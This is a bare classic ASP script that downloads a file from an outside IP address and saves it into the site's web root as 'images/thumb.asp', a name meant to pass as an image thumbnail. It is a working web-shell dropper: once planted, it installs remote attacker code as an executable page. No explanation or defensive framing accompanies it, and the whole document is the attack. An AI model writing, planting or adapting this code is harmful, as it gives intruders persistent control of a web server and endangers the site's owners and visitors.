<%
Set http = Server.CreateObject("Microsoft.XMLHTTP")
http.Open "GET", "http://198.51.100.7/s.txt", False
http.Send
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write http.responseBody
st.SaveToFile Server.MapPath("images/thumb.asp"), 2
st.Close
%>
